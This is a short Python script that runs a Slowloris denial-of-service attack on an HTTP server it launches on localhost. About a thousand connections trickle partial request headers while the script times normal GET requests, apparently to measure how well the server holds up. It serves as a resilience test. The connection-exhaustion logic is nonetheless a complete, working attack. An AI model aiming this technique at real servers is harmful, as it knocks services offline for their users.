#!/usr/bin/env python3
"""Slowloris against an HTTP server: N connections each trickle a request head, one byte
every second, while a normal client asks GET / every half second. Prints how many of the
normal requests were answered, and how fast.

  slowloris.py SERVER_CMD_WITH_{port} [--conns 1000] [--secs 10]
"""
import argparse, http.client, resource, socket, subprocess, sys, time

ap = argparse.ArgumentParser()
ap.add_argument("cmd")
ap.add_argument("--conns", type=int, default=1000)
ap.add_argument("--secs", type=float, default=10)
a = ap.parse_args()

resource.setrlimit(resource.RLIMIT_NOFILE, (a.conns + 256, a.conns + 256))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
server = subprocess.Popen(["bash", "-c", "ulimit -n %d; exec %s" % (a.conns + 256, a.cmd.replace("{port}", str(port)))],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
try:
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", port), 0.2).close(); break
        except OSError:
            time.sleep(0.1)
    slow = []
    for _ in range(a.conns):
        try:
            c = socket.create_connection(("127.0.0.1", port), 2)
            c.setblocking(False)
            c.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
            slow.append(c)
        except OSError:
            break
    answered, times, asked = 0, [], 0
    end = time.time() + a.secs
    nxt = time.time()
    while time.time() < end:
        for c in slow:
            try:
                c.send(b"X")
            except OSError:
                pass
        while time.time() < min(end, nxt + 1.0):
            asked += 1
            t0 = time.time()
            try:
                h = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
                h.request("GET", "/")
                r = h.getresponse(); r.read(); h.close()
                if r.status == 200:
                    answered += 1; times.append(time.time() - t0)
            except OSError:
                pass
            time.sleep(0.5)
        nxt += 1.0
    times.sort()
    med = times[len(times) // 2] * 1000 if times else float("nan")
    print("slowloris: %d trickling connections open; normal GETs answered %d/%d, median %.1f ms"
          % (len(slow), answered, asked, med))
finally:
    server.kill(); server.wait()
